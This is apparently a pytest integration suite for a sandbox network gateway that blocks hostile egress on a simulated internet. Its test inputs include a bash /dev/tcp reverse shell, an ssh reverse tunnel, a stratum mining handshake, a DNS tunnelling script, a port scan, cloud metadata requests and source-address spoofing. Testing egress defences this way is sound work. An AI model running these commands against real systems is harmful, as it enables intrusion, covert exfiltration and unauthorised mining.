"""The gateway's behaviour, seen from real sandboxes on the simulated internet.

Every case runs its client inside a real ``AsyncSandbox`` (network mode ``gateway``)
behind a real ``Gateway`` resolving through the simnet, and checks three things: what
the client saw, the events (kind, verdict, reason or signal, sandbox, episode, step and
the pid of the process that opened the flow), and the simulated hosts' byte counters:
denied traffic delivers 0 bytes anywhere.

Only simnet addresses (198.51.100.0/24, 203.0.113.0/24), 2001:db8::/32 and
169.254.169.254 are ever targets.
"""

from __future__ import annotations

import asyncio
import contextlib
import shutil
import tempfile
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from pathlib import Path

import pytest
import pytest_asyncio
from gateway_helpers import needs_root
from sandbox_egress_helpers import CA_IN_SANDBOX, EPISODE, Box, Witness, counters

from corral.bench.simnet import SimNet
from corral.bench.simnet.wheel import PACKAGE, VERSION
from corral.events import EventKind
from corral.gateway import Gateway
from corral.policy import load_policy
from corral.sandbox.runtime import AsyncSandbox

pytestmark = [pytest.mark.asyncio(loop_scope="module"), needs_root]

CONNECT, DNS, SIGNAL = EventKind.NET_CONNECT, EventKind.NET_DNS, EventKind.NET_SIGNAL
EXAMPLE = {"domain": "example.sim.test"}
MakeBox = Callable[..., Awaitable[Box]]


@pytest.fixture(scope="module")
def ca_file(simnet: SimNet) -> Iterator[str]:
    """The simnet CA in a world-readable place: bwrap resolves bind sources as the
    sandbox's unprivileged uid, whatever the simnet's own temp dir allows."""
    root = Path("/var/lib/corral-tests")
    made_root = not root.exists()
    root.mkdir(mode=0o755, parents=True, exist_ok=True)
    tmp = Path(tempfile.mkdtemp(prefix="sandbox-egress-", dir=root))
    try:
        tmp.chmod(0o755)
        ca = tmp / "ca.pem"
        shutil.copyfile(simnet.ca_pem, ca)
        ca.chmod(0o644)
        yield str(ca)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
        if made_root:
            with contextlib.suppress(OSError):
                root.rmdir()


def mounted_netns(inode: int) -> list[Path]:
    """Entries of /run/netns that hold the network namespace ``inode``."""
    found = []
    for path in Path("/run/netns").iterdir():
        with contextlib.suppress(OSError):  # another gateway's entry removed meanwhile
            if path.stat().st_ino == inode:
                found.append(path)
    return found


async def close_and_check(sandbox: AsyncSandbox, netns: int) -> None:
    """Closes the sandbox; the network namespace it lived in must be gone with it."""
    await sandbox.close()
    left = mounted_netns(netns)
    assert not left, f"{sandbox.id}: network namespace left behind: {left}"


@pytest_asyncio.fixture(loop_scope="module")
async def boxes(gateway: Gateway, ca_file: str) -> AsyncIterator[MakeBox]:
    """``await boxes(allow, **overrides)``: a sandbox behind the module's gateway, with the
    simnet CA bound read-only. Every sandbox made is closed afterwards, whatever happened."""
    async with contextlib.AsyncExitStack() as stack:

        async def make(allow: list[dict[str, object]], **overrides: object) -> Box:
            policy = load_policy("networked", {
                "network.allow": allow,
                "filesystem.read_only": [{"source": ca_file, "target": CA_IN_SANDBOX}],
                **overrides,
            })
            witness = Witness()
            sandbox = await AsyncSandbox.create(
                policy, sink=witness.sink, episode_id=EPISODE, gateway=gateway
            )
            netns = Path(f"/proc/{sandbox.init_pid}/ns/net").stat().st_ino
            stack.push_async_callback(close_and_check, sandbox, netns)
            # The gateway's namespace for this sandbox, as the launcher joined it.
            assert mounted_netns(netns), sandbox.id
            return Box(sandbox, witness)

        yield make


# --- 1, 2: what is allowed works ----------------------------------------------------


async def test_allowed_domain_over_http_and_https(boxes: MakeBox, simnet: SimNet) -> None:
    box = await boxes([EXAMPLE])
    web = simnet.ip("web")
    before = counters(simnet, "web")
    http = await box.run(["curl", "-sS", "-m", "10", "http://example.sim.test/plain"], step=1)
    https = await box.run(["curl", "-sS", "-m", "10", "--cacert", CA_IN_SANDBOX,
                           "https://example.sim.test/tls"], step=2)
    assert http.exit_code == 0 and http.stdout == "hello from web (GET /plain)\n", http
    assert https.exit_code == 0 and https.stdout == "hello from web (GET /tls)\n", https

    received = counters(simnet, "web")
    for step, port, protocol in ((1, 80, "http"), (2, 443, "tls")):
        (end,) = await box.wait_for(
            lambda step=step: box.events(CONNECT, step=step, phase="end"))
        assert (end.data["verdict"], end.data["protocol"], end.data["server_name"]) == (
            "allow", protocol, "example.sim.test")
        assert (end.data["dst"], end.data["port"], end.data["rule"]) == (web, port, 0)
        assert end.data["reason"] == "domain example.sim.test" and end.data["error"] in (
            None, "reset")
        assert end.data["bytes_up"] > 0 and end.data["bytes_down"] > 0
        got = received.get(port, 0) - before.get(port, 0)
        if protocol == "http":
            # One request, read whole before the answer: relayed is exactly what arrived.
            assert got == end.data["bytes_up"]
        else:
            # TLS: the client's close_notify may be relayed after the server hung up, so
            # the host can have read less than was relayed, never more.
            assert 0 < got <= end.data["bytes_up"]
        box.assert_pid_if_found(end, step, "curl")
        (lookup,) = box.events(DNS, step=step, qtype="A")
        assert (lookup.data["name"], lookup.data["verdict"], lookup.data["answers"]) == (
            "example.sim.test", "allow", [web])
        events = box.net_events(step)
        box.assert_attributed(events, step)
        assert all(e.data["verdict"] == "allow" for e in events if e.kind != SIGNAL)
        assert not box.events(SIGNAL, step=step)
    (plain,) = box.events(CONNECT, step=1)
    assert (plain.data["http_method"], plain.data["http_path"]) == ("GET", "/plain")


async def test_pip_install_from_allowed_index(boxes: MakeBox, simnet: SimNet) -> None:
    box = await boxes([{"domain": "pypi.sim.test", "ports": [443]}],
                      **{"resources.memory": "2GiB", "resources.disk": "1GiB",
                         "resources.pids": 512})
    before = counters(simnet, "pypi")
    install = await box.run(
        "python3 -m venv /workspace/v && /workspace/v/bin/pip install --no-cache-dir "
        f"--cert {CA_IN_SANDBOX} --index-url https://pypi.sim.test/simple {simnet.project}",
        step=3, timeout=150,
    )
    assert install.exit_code == 0, install
    assert f"Successfully installed {simnet.project}-{VERSION}" in install.stdout, install
    check = await box.run(
        ["/workspace/v/bin/python", "-c", f"import {PACKAGE}; print({PACKAGE}.MESSAGE)"],
        step=4,
    )
    assert check.stdout == "installed from the Corral simulated index\n", check

    def relayed() -> int:
        return sum(e.data["bytes_up"] for e in box.events(CONNECT, step=3, phase="end"))

    arrived = counters(simnet, "pypi").get(443, 0) - before.get(443, 0)
    # pip has closed every connection; each one's end is reported a moment later.
    for _ in range(100):
        if relayed() >= arrived:
            break
        await asyncio.sleep(0.05)
    flows = box.events(CONNECT, step=3)
    assert flows, box.witness.sink.events
    for flow in flows:
        assert (flow.data["verdict"], flow.data["phase"], flow.data["protocol"]) == (
            "allow", "end", "tls"), flow
        assert (flow.data["server_name"], flow.data["port"]) == ("pypi.sim.test", 443)
    # Every byte the index got came through a reported flow (TLS close_notify relayed
    # after the server hung up may never be read, so relayed can exceed arrived).
    assert 0 < arrived <= relayed()
    assert counters(simnet, "pypi").get(80, 0) == before.get(80, 0)
    lookups = box.events(DNS, step=3)
    assert {e.data["name"] for e in lookups} == {"pypi.sim.test"}
    assert all(e.data["verdict"] == "allow" for e in lookups)
    assert not box.events(SIGNAL)
    box.assert_attributed(box.net_events(3), 3)
    assert not box.net_events(4)  # importing the package needs no network


# --- 3: what is not allowed is refused and logged ----------------------------------------


async def test_non_allowed_domain_gets_nxdomain(boxes: MakeBox, simnet: SimNet) -> None:
    box = await boxes([EXAMPLE])
    before = simnet.received()
    result = await box.run(["curl", "-sS", "-m", "10", "http://evil.sim.test/"], step=5)
    assert result.exit_code == 6 and "Could not resolve host: evil.sim.test" in result.stderr
    await box.wait_for(lambda: box.events(DNS, step=5, qtype="A"))
    lookups = box.events(DNS, step=5)
    for e in lookups:
        assert (e.data["name"], e.data["verdict"], e.data["rcode"]) == (
            "evil.sim.test", "deny", "NXDOMAIN"), e
        assert e.data["reason"] == "name not allowed by policy" and e.data["answers"] == []
        box.assert_pid_if_found(e, 5, "curl")
    box.assert_attributed(lookups, 5)
    await box.settle()
    assert not box.events(CONNECT, step=5)
    # Not even the simnet's DNS server was asked: the name never left the gateway.
    assert simnet.received() == before


async def test_non_allowed_ip_gets_403(boxes: MakeBox, simnet: SimNet) -> None:
    box = await boxes([EXAMPLE])
    other = simnet.ip("other")
    before = simnet.received()
    result = await box.run(["curl", "-sS", "-m", "10", "-D", "-", f"http://{other}/secret"],
                           step=6)
    head = result.stdout.split("\r\n\r\n")[0].split("\r\n")
    assert head[0] == "HTTP/1.1 403 Forbidden", result
    (denied_header,) = [h for h in head if h.startswith("X-Corral-Denied: ")]
    (deny,) = await box.wait_for(lambda: box.events(CONNECT, step=6))
    assert (deny.data["verdict"], deny.data["phase"], deny.data["protocol"]) == (
        "deny", "decision", "http")
    assert (deny.data["dst"], deny.data["port"], deny.data["http_path"]) == (
        other, 80, "/secret")
    assert deny.data["reason"] == f"{other} is not an allowed domain"
    assert denied_header == f"X-Corral-Denied: {deny.data['reason']}"
    assert deny.data["bytes_up"] == 0
    box.assert_pid(deny, 6, "curl")
    box.assert_attributed([deny], 6)
    await box.settle()
    assert simnet.received() == before


# --- 4, 5: tunnels and mining are refused and flagged, on their own ports and on 443 ------


@pytest.mark.parametrize("port", [22, 443])
async def test_ssh_reverse_tunnel_refused_and_flagged(
    boxes: MakeBox, simnet: SimNet, port: int
) -> None:
    ssh = simnet.ip("ssh")
    # The address and the port are open; ssh still has to be named to pass.
    box = await boxes([{"cidr": f"{ssh}/32", "ports": [22, 443]}])
    before = simnet.received("ssh")
    result = await box.run(
        ["ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
         "-o", "ConnectTimeout=5", "-p", str(port), "-fNR", "9000:localhost:22",
         f"user@{ssh}"],
        step=7, timeout=30,
    )
    assert result.exit_code == 255 and "Connection reset" in result.stderr, result
    (signal,) = await box.wait_for(lambda: box.events(SIGNAL, step=7))
    assert (signal.data["signal"], signal.data["severity"]) == ("ssh_outbound", "high")
    assert (signal.data["dst"], signal.data["port"]) == (ssh, port)
    assert signal.data["banner"].startswith("SSH-2.0-OpenSSH")
    (deny,) = await box.wait_for(lambda: box.events(CONNECT, step=7))
    assert (deny.data["verdict"], deny.data["protocol"], deny.data["port"]) == (
        "deny", "ssh", port)
    assert deny.data["reason"] == f"ssh to {ssh}:{port} is not allowed by any rule"
    for event in (signal, deny):
        box.assert_pid(event, 7, "ssh")
    box.assert_attributed(box.net_events(7), 7)
    await box.settle()
    assert simnet.received("ssh") == before


STRATUM = """
import json, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["xmrig/6.21"]})
          .encode() + b"\\n")
try:
    print("reply", s.recv(4096))
except OSError as exc:
    print("error", type(exc).__name__)
"""


@pytest.mark.parametrize("port", [3333, 443])
async def test_stratum_refused_and_flagged(boxes: MakeBox, simnet: SimNet, port: int) -> None:
    pool = simnet.ip("pool")
    box = await boxes([{"cidr": f"{pool}/32", "ports": [3333, 443]}])
    before = simnet.received("pool"), simnet.pool_stats.subscribes
    result = await box.run(["python3", "-c", STRATUM, pool, str(port)], step=8)
    assert result.stdout == "error ConnectionResetError\n", result
    (signal,) = await box.wait_for(lambda: box.events(SIGNAL, step=8))
    assert (signal.data["signal"], signal.data["severity"]) == ("mining_stratum", "critical")
    assert (signal.data["dst"], signal.data["port"], signal.data["method"]) == (
        pool, port, "mining.subscribe")
    (deny,) = await box.wait_for(lambda: box.events(CONNECT, step=8))
    assert (deny.data["verdict"], deny.data["protocol"]) == ("deny", "stratum")
    assert deny.data["reason"] == f"stratum to {pool}:{port} is not allowed by any rule"
    for event in (signal, deny):
        box.assert_pid(event, 8, "python3")
    box.assert_attributed(box.net_events(8), 8)
    await box.settle()
    assert (simnet.received("pool"), simnet.pool_stats.subscribes) == before


# --- 6, 7: reverse shell and port scan ------------------------------------------------------


async def test_bash_reverse_shell_refused(boxes: MakeBox, simnet: SimNet) -> None:
    box = await boxes([EXAMPLE])
    sink = simnet.ip("sink")
    before = counters(simnet, "sink")
    result = await box.run(["bash", "-c", f"bash -i >& /dev/tcp/{sink}/4444 0>&1"], step=9,
                           timeout=20)
    assert result.exit_code != 0, result
    (deny,) = await box.wait_for(lambda: box.events(CONNECT, step=9))
    assert (deny.data["verdict"], deny.data["dst"], deny.data["port"]) == ("deny", sink, 4444)
    assert deny.data["protocol"] == "unknown"
    assert deny.data["reason"] == f"no rule allows {sink}:4444 (unknown, no SNI/Host)"
    # The shell did talk (its prompt): the gateway held those bytes and delivered none.
    assert deny.data["peeked"] > 0 and deny.data["bytes_up"] == 0
    box.assert_pid(deny, 9, "bash", exact=False)
    box.assert_attributed(box.net_events(9), 9)
    await box.settle()
    assert counters(simnet, "sink") == before


SCAN_PORTS = range(20, 50)


async def test_port_scan_flagged(boxes: MakeBox, simnet: SimNet) -> None:
    box = await boxes([EXAMPLE])
    sink = simnet.ip("sink")
    before = simnet.received()
    scan = (f"timeout 20 bash -c 'for p in $(seq {SCAN_PORTS[0]} {SCAN_PORTS[-1]}); do "
            f"(exec 3<>/dev/tcp/{sink}/$p) 2>/dev/null; done; echo scanned'")
    result = await box.run(scan, step=10, timeout=30)
    assert result.exit_code == 0 and result.stdout == "scanned\n", result
    denied = await box.wait_for(lambda: box.events(CONNECT, step=10), count=len(SCAN_PORTS))
    assert sorted(e.data["port"] for e in denied) == list(SCAN_PORTS)
    assert {(e.data["dst"], e.data["verdict"]) for e in denied} == {(sink, "deny")}
    (signal,) = box.events(SIGNAL, step=10)
    assert (signal.data["signal"], signal.data["severity"]) == ("scan", "medium")
    # Default threshold: 20 distinct targets in the window.
    assert signal.data["distinct_targets"] >= 20 and signal.data["hosts"] == 1
    for event in [signal, *denied]:
        box.assert_pid_if_found(event, 10, "bash", exact=False)
    box.assert_attributed(box.net_events(10), 10)
    await box.settle()
    assert simnet.received() == before


# --- 8: DNS tunnelling ----------------------------------------------------------------------

DNS_TUNNEL = """
import secrets, socket, struct, sys, time
def query(name, qid):
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
    return q + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
for qid in range(1, 5):
    name = f"{secrets.token_hex(28)}.{secrets.token_hex(10)}.tunnel.sim.test"
    # Straight at an outside resolver, as tunnelling tools do.
    s.sendto(query(name, qid), (sys.argv[1], 53))
    reply = s.recv(4096)
    print(name, reply[3] & 0x0F, flush=True)
time.sleep(1)  # a tunnel keeps its socket: the gateway names the process
"""


async def test_dns_tunnelling_flagged(boxes: MakeBox, simnet: SimNet) -> None:
    box = await boxes([EXAMPLE])
    before = simnet.received()
    result = await box.run(["python3", "-c", DNS_TUNNEL, simnet.dns_server], step=11)
    assert result.exit_code == 0, result
    answers = dict(line.split() for line in result.stdout.splitlines())
    assert len(answers) == 4 and set(answers.values()) == {"3"}, result  # all NXDOMAIN
    signals = await box.wait_for(lambda: box.events(SIGNAL, step=11), count=4)
    assert {e.data["name"] for e in signals} == set(answers)
    for e in signals:
        assert (e.data["signal"], e.data["severity"]) == ("dns_tunnel", "high")
        assert e.data["entropy"] >= 3.5 and e.data["length"] >= 40
        box.assert_pid_if_found(e, 11, "python3")  # see test_udp_senders_are_named
    lookups = await box.wait_for(lambda: box.events(DNS, step=11), count=4)
    assert {e.data["name"] for e in lookups} == set(answers)
    for e in lookups:
        assert (e.data["verdict"], e.data["rcode"], e.data["transport"]) == (
            "deny", "NXDOMAIN", "udp")
        box.assert_pid_if_found(e, 11, "python3")
    box.assert_attributed(box.net_events(11), 11)
    assert not box.events(CONNECT, step=11)
    # Answered by the gateway itself: the encoded names reached no server at all.
    await box.settle()
    assert simnet.received() == before


# --- 9, 10: metadata, IPv6 and UDP ------------------------------------------------------


def after_hosts(simnet: SimNet) -> dict[str, int]:
    return {host: simnet.received(host) for host in simnet.hosts}


def _head(stdout: str) -> list[str]:
    return stdout.split("\r\n\r\n")[0].split("\r\n")


async def test_metadata_address_and_ipv6_refused(boxes: MakeBox, simnet: SimNet) -> None:
    box = await boxes([EXAMPLE, {"domain": "metadata.sim.test"}])
    before = after_hosts(simnet)
    meta = await box.run(["curl", "-sS", "-m", "10", "-D", "-",
                          "http://169.254.169.254/latest/meta-data/"], step=12)
    by_name = await box.run(["curl", "-sS", "-m", "10", "http://metadata.sim.test/"], step=13)
    six = await box.run(["curl", "-6", "-g", "-sS", "-m", "10", "-D", "-",
                         "http://[2001:db8::1]/"], step=14)
    six_tls = await box.run(["curl", "-6", "-g", "-sS", "-m", "10", "--cacert", CA_IN_SANDBOX,
                             "https://[2001:db8::10]/"], step=15)

    for result, step, dst, why in ((meta, 12, "169.254.169.254", "cloud metadata"),
                                   (six, 14, "2001:db8::1", "ipv6")):
        head = _head(result.stdout)
        assert head[0] == "HTTP/1.1 403 Forbidden", result
        (deny,) = await box.wait_for(lambda step=step: box.events(CONNECT, step=step))
        assert (deny.data["verdict"], deny.data["dst"], deny.data["port"]) == ("deny", dst, 80)
        assert deny.data["reason"].startswith(f"{dst} is {why} (")
        assert f"X-Corral-Denied: {deny.data['reason']}" in head
        box.assert_pid(deny, step, "curl")
    # A name that resolves to the metadata address is refused at DNS (rebinding).
    assert by_name.exit_code == 6, by_name
    lookups = await box.wait_for(lambda: box.events(DNS, step=13, qtype="A"))
    assert (lookups[0].data["verdict"], lookups[0].data["rcode"]) == ("deny", "REFUSED")
    assert "169.254.169.254" in lookups[0].data["reason"]
    assert not box.events(CONNECT, step=13)
    # IPv6 under TLS is reset, never relayed.
    assert six_tls.exit_code == 35 and "reset" in six_tls.stderr, six_tls
    (deny,) = await box.wait_for(lambda: box.events(CONNECT, step=15))
    assert (deny.data["verdict"], deny.data["dst"], deny.data["protocol"]) == (
        "deny", "2001:db8::10", "tls")
    box.assert_pid(deny, 15, "curl")
    for step in (12, 13, 14, 15):
        box.assert_attributed(box.net_events(step), step)
    await box.settle()
    # Only the simnet's DNS server heard anything: the gateway asking it about the
    # allowed name metadata.sim.test. Nothing went to any address the clients named.
    assert {h: n for h, n in after_hosts(simnet).items() if h != "dns"} == {
        h: n for h, n in before.items() if h != "dns"}


UDP = """
import socket, sys, time
held = []
for family, addr in ((socket.AF_INET, sys.argv[1]), (socket.AF_INET6, "2001:db8::99")):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.sendto(b"u" * 100, (addr, 9999))
    held.append(s)
time.sleep(1)  # still holding the sockets: the gateway names the sender
print("sent")
"""


async def test_udp_other_than_dns_dropped_and_logged(boxes: MakeBox, simnet: SimNet) -> None:
    box = await boxes([EXAMPLE])
    sink = simnet.ip("sink")
    before = counters(simnet, "sink")
    result = await box.run(["python3", "-c", UDP, sink], step=16)
    assert result.exit_code == 0 and result.stdout == "sent\n", result
    dropped = await box.wait_for(lambda: box.events(CONNECT, step=16), count=2)
    assert {(e.data["dst"], e.data["port"]) for e in dropped} == {
        (sink, 9999), ("2001:db8::99", 9999)}
    for e in dropped:
        assert (e.data["transport"], e.data["verdict"], e.data["phase"]) == (
            "udp", "deny", "decision")
        assert e.data["reason"] == "UDP other than DNS is never relayed"
        assert e.data["bytes_up"] == 100
        box.assert_pid_if_found(e, 16, "python3")  # see test_udp_senders_are_named
    box.assert_attributed(box.net_events(16), 16)
    await box.settle()
    assert counters(simnet, "sink") == before


# --- 11: an allowed address under a forbidden name, or none ---------------------------


async def test_forbidden_sni_or_no_sni_to_allowed_ip_refused(
    boxes: MakeBox, simnet: SimNet
) -> None:
    box = await boxes([EXAMPLE])
    web = simnet.ip("web")
    # The address is reachable under its own name...
    ok = await box.run(["curl", "-sS", "-m", "10", "--cacert", CA_IN_SANDBOX,
                        "https://example.sim.test/"], step=17)
    assert ok.exit_code == 0 and ok.stdout.startswith("hello from web"), ok
    await box.wait_for(lambda: box.events(CONNECT, step=17, phase="end"))
    before = simnet.received()
    # ...but not under another name, nor under none.
    wrong = await box.run(["curl", "-sS", "-m", "10", "--cacert", CA_IN_SANDBOX,
                           "--resolve", f"forbidden.sim.test:443:{web}",
                           "https://forbidden.sim.test/"], step=18)
    bare = await box.run(["openssl", "s_client", "-connect", f"{web}:443", "-noservername"],
                         step=19, stdin="")
    assert wrong.exit_code == 35 and "Connection reset by peer" in wrong.stderr, wrong
    assert bare.exit_code != 0 and "no peer certificate available" in bare.stdout, bare

    (deny,) = await box.wait_for(lambda: box.events(CONNECT, step=18))
    assert (deny.data["verdict"], deny.data["protocol"], deny.data["server_name"]) == (
        "deny", "tls", "forbidden.sim.test")
    assert (deny.data["dst"], deny.data["port"]) == (web, 443)
    assert deny.data["reason"] == "forbidden.sim.test is not an allowed domain"
    box.assert_pid(deny, 18, "curl")
    (deny,) = await box.wait_for(lambda: box.events(CONNECT, step=19))
    assert (deny.data["verdict"], deny.data["protocol"], deny.data.get("server_name")) == (
        "deny", "tls", None)
    assert deny.data["reason"] == f"no rule allows {web}:443 (tls, no SNI/Host)"
    box.assert_pid(deny, 19, "openssl")
    for step in (18, 19):
        box.assert_attributed(box.net_events(step), step)
    await box.settle()
    assert simnet.received() == before


# --- UDP attribution -----------------------------------------------------------------------


async def test_udp_senders_are_named(boxes: MakeBox, simnet: SimNet) -> None:
    box = await boxes([EXAMPLE])
    udp = await box.run(["python3", "-c", UDP, simnet.ip("sink")], step=20)
    tunnel = await box.run(["python3", "-c", DNS_TUNNEL, simnet.dns_server], step=21)
    assert udp.exit_code == 0 and tunnel.exit_code == 0, (udp, tunnel)
    events = [
        *await box.wait_for(lambda: box.events(CONNECT, step=20), count=2),
        *await box.wait_for(lambda: box.events(SIGNAL, step=21), count=4),
        *await box.wait_for(lambda: box.events(DNS, step=21), count=4),
    ]
    for e in events:
        # Each sender still held its socket when the gateway reported it.
        box.assert_pid(e, e.step, "python3")


# --- one sandbox cannot speak as another -------------------------------------------------

SPOOF = """
import socket, struct, sys
victim, mode = sys.argv[1], sys.argv[2]
q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in "pool.minexmr.sim.test".split(".")) + b"\\0"
q += struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
if mode == "spoof":
    s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND: bind an address we don't own
    s.bind((victim, 0))
s.settimeout(2)
s.sendto(q, ("2001:db8::53", 53))
try:
    s.recv(512)
    print("answered")
except OSError:
    print("no answer")
"""


async def test_a_sandbox_cannot_spoof_another_sandboxs_address(boxes: MakeBox) -> None:
    attacker, victim = await boxes([EXAMPLE]), await boxes([EXAMPLE])
    addr = await victim.run("ip -6 -o addr show dev eth0 scope global", step=0)
    victim_ip = addr.stdout.split()[3].split("/")[0]
    assert victim_ip.startswith("fd"), addr
    # Control: from its own address, the same query is answered and flagged for the sender.
    own = await attacker.run(["python3", "-c", SPOOF, victim_ip, "own"], step=1)
    assert own.stdout == "answered\n", own
    await attacker.wait_for(lambda: attacker.events(SIGNAL, step=1))
    # Spoofed as the victim: dropped before the gateway judges or reports anything.
    spoofed = await attacker.run(["python3", "-c", SPOOF, victim_ip, "spoof"], step=2)
    assert spoofed.stdout == "no answer\n", spoofed
    await victim.settle()
    assert victim.events(DNS) == [] and victim.events(SIGNAL) == []
    assert attacker.events(DNS, step=2) == []
